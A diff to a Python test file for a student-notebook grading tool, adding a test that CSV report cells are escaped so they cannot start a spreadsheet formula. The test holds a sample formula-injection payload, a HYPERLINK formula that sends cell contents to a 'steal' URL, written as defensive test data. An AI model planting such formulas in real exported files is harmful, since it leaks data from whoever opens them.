@@ -13,8 +13,8 @@ from nbformat.v4 import new_code_cell, new_output
 from graders.cli import main
 from graders.exercises import ASSIGNMENTS, exercises
 from graders.notebook_build import ROOT
-from graders.outcomes import COULD_NOT_RUN, NOT_ATTEMPTED, PASSED, WRONG, classify_test
-from graders.report import ClassResults, collect, write_csv
+from graders.outcomes import COULD_NOT_RUN, NOT_ATTEMPTED, PASSED, WRONG, ExerciseOutcome, TestOutcome, classify_test
+from graders.report import AssignmentResults, ClassResults, Submission, collect, write_csv
 from graders.report.page import render
 
 
@@ -108,6 +108,18 @@ def test_csv_has_one_row_per_student_and_exercise(graded, wrong_choices, tmp_pat
     row = next(r for r in rows if r["student"] == "one-wrong" and r["exercise"] == wrong.name)
     assert (row["outcome"], row["mistake"], row["score"]) == (WRONG, mistake.name, "0")
     assert mistake.message in row["diagnosis"]
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula(tmp_path):
+    """A learner's exception message quoted in a diagnosis (or an odd student id) is kept as text."""
+    name = exercises("ch03_loss_functions")[0].name
+    quoted = '=HYPERLINK("https://example.com/steal?"&A1, "click")'
+    test = TestOutcome(f"test_{name}", NOT_ATTEMPTED, 0.0, 2.0, quoted)
+    results = ClassResults([AssignmentResults("ch03_loss_functions", [
+        Submission("@student", [ExerciseOutcome(name, (test,))])])], ["@student"])
+    write_csv(results, tmp_path / "r.csv")
+    row = next(csv.DictReader(open(tmp_path / "r.csv")))
+    assert (row["student"], row["diagnosis"], row["score"]) == ("'@student", "'" + quoted, "0")
 
 
 def test_unknown_assignment_is_a_clear_error(graded, capsys):
